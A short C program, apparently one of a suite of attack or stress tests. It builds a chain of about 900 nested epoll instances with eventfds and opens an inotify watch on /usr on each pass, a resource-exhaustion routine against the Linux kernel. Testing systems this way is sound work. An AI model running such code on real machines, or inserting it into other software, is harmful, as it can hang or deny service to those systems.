#include "attack.h"
int main(void)
{
	int last = epoll_create1(0);
	for (int i = 0; i < 900; i++) {
		int e = epoll_create1(0), v = eventfd(0, 0);
		struct epoll_event ev = {.events = EPOLLIN};
		epoll_ctl(e, EPOLL_CTL_ADD, last, &ev);
		epoll_ctl(e, EPOLL_CTL_ADD, v, &ev);
		inotify_add_watch(inotify_init(), "/usr", IN_ALL_EVENTS);
		if (e < 0)
			break;
		last = e;
	}
	return finish();
}
